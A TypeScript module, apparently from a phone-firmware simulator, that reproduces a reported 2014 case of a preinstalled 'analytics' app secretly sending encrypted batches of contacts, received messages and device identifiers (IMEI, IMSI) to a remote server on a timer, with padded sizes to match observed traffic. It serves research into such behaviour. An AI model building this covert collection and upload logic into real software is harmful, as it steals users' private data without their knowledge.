import type { Behaviour } from '../firmware-types.ts';
import type { App } from '../system.ts';
import type { AppContext } from './context.ts';
import { isCharging, readInbox, readPhoneBook } from './private-data.ts';
import { everyPeriod } from './schedule.ts';
import { packRecords, recordBytes, sealUpload } from './upload-payload.ts';
import { dalvikAgent } from './user-agent.ts';

type Upload = Extract<Behaviour, { kind: 'encrypted-upload' }>;

/** Bytes of an upload that are there without any contact or message, before filling. */
const emptyBytes = 480;
/** Filled up to so much of it on average: with a record deflated to some 18 bytes, 24 go out for each. */
const filling = 4 / 3;
/** Standard deviation of the logarithm of the size. */
const sigma = 0.12;
/** Room for TLS's own bytes in the records, and for a block of the cipher. */
const recordOverhead = 128;

/**
 * What Apple Daily and Sang Young saw in September 2014: every half hour by itself, encrypted, 893 bytes to 30 KB, to a rented server in
 * Singapore (FIELD 1). What was in it is not known; here it is the phone book and the messages received, the newest as far as they fit.
 */
export function createEncryptedUpload(behaviour: Upload, context: AppContext): App {
  const { system, network, random } = context;
  const url = `https://${behaviour.host}/v1/sync/batch`;
  const sent = new Set<string>();
  const headersOf = () =>
    [
      ['Content-Type', 'application/octet-stream'],
      ['User-Agent', dalvikAgent(system.properties)],
      ['Host', behaviour.host],
      ['Connection', 'Keep-Alive'],
      ['Accept-Encoding', 'gzip'],
    ] as const;

  const upload = async (signal: AbortSignal) => {
    const headers = headersOf();
    const headBytes = Buffer.byteLength(
      `POST ${new URL(url).pathname} HTTP/1.1\r\n${headers.map(([name, value]) => `${name}: ${value}\r\n`).join('')}Content-Length: 00000\r\n\r\n`,
    );
    const most = behaviour.maxBytes - headBytes - recordOverhead;
    // The cipher's blocks may cut up to 15 bytes.
    const least = behaviour.minBytes - headBytes + 16;
    if (behaviour.power !== undefined && (behaviour.power === 'charging') !== isCharging(system.power.battery)) return;
    const held = packRecords(readPhoneBook(system.providers), readInbox(system.providers));
    const all = behaviour.records === 'new' ? held.filter((record) => !sent.has(record.toString('hex'))) : held;
    if (behaviour.records === 'new' && all.length === 0) return;
    const records = all.slice(-Math.floor((most - emptyBytes) / recordBytes));
    const { imei, imsi, operator } = system.telephony;
    const body = sealUpload({
      device: { imei, imsi, operator, version: system.properties.get('ro.build.version.incremental') },
      records,
      bytes: (dataBytes) => {
        const wanted = (emptyBytes + dataBytes) * filling * Math.exp(sigma * gaussian(random));
        return Math.round(Math.min(most, Math.max(least, wanted)));
      },
    });
    const { pinned } = behaviour;
    await network.request({ method: 'POST', url, headers, body, signal, pinned });
    for (const record of records) keep(sent, record.toString('hex'));
  };

  const log = (line: string) => context.log(`Analytics: ${line}`);
  const schedule = everyPeriod({
    system,
    random,
    log,
    periodSeconds: behaviour.periodSeconds,
    firstSeconds: behaviour.firstSeconds,
    task: upload,
  });
  return { package: 'com.miui.analytics', ...schedule };
}

/** What is remembered as sent; beyond it the oldest may go again. */
const remembered = 50_000;

function keep(sent: Set<string>, record: string): void {
  sent.add(record);
  const [oldest] = sent;
  if (sent.size > remembered && oldest !== undefined) sent.delete(oldest);
}

/** Standard normal, by Box and Muller. */
export function gaussian(random: () => number): number {
  return Math.sqrt(-2 * Math.log(1 - random())) * Math.cos(2 * Math.PI * random());
}
